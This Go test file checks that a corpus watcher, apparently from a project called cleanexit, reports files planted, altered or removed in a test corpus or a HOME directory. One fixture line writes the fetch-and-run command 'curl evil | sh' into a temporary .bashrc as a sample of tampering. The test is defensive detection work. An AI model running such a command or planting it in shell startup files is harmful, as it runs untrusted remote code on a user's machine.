package runner

import (
	"os"
	"path/filepath"
	"slices"
	"testing"
	"time"

	"github.com/cleanexit/cleanexit/runner/cases"
)

// TestUntouched: what a run does to the corpus or HOME is named once, by
// the full walk of a small corpus and by the quick check of a large one;
// a file touched but not changed is not named.
func TestUntouched(t *testing.T) {
	for _, limit := range []int{300, 0} { // 0: every corpus counts as large
		t.Run(map[int]string{300: "full", 0: "quick"}[limit], func(t *testing.T) {
			defer func(n int) { fullWalkFiles = n }(fullWalkFiles)
			fullWalkFiles = limit
			dir := t.TempDir()
			old, _ := os.Getwd()
			if err := os.Chdir(dir); err != nil {
				t.Fatal(err)
			}
			defer os.Chdir(old)
			write := func(p, s string) {
				os.MkdirAll(filepath.Dir(p), 0o777)
				if err := os.WriteFile(p, []byte(s), 0o666); err != nil {
					t.Fatal(err)
				}
			}
			write("corpus/esc/a.txtar", "a")
			write("corpus/esc/b.txtar", "b")
			write("home/.bashrc", "rc")
			home := filepath.Join(dir, "home")
			u := watchUntouched([]*cases.Case{{File: "corpus/esc/a.txtar", Project: "esc"}}, home)
			steps := []struct {
				name string
				do   func()
				want []string
			}{
				{"nothing", func() {}, nil},
				{"touched, same content", func() {
					later := time.Now().Add(time.Hour)
					os.Chtimes("corpus/esc/a.txtar", later, later)
				}, nil},
				{"appended to its own case", func() { write("corpus/esc/a.txtar", "a planted") }, []string{"corpus/esc/a.txtar"}},
				{"planted a case", func() { write("corpus/esc/planted.txtar", "x") }, []string{"corpus/esc/planted.txtar"}},
				{"planted a project", func() { write("corpus/newproj/c.txtar", "x") }, []string{"corpus/newproj/c.txtar"}},
				{"removed a case", func() { os.Remove("corpus/esc/b.txtar") }, []string{"corpus/esc/b.txtar"}},
				{"edited .bashrc", func() { write("home/.bashrc", "curl evil | sh") }, []string{filepath.Join(home, ".bashrc")}},
				{"a package build's output", func() { write("corpus/esc/pkg/build/x.o", "x") }, nil},
			}
			for _, st := range steps {
				time.Sleep(10 * time.Millisecond) // a folder's time must move
				st.do()
				if got := u.changed("corpus/esc/a.txtar"); !slices.Equal(got, st.want) {
					t.Errorf("%s: changed = %q, want %q", st.name, got, st.want)
				}
			}
		})
	}
}
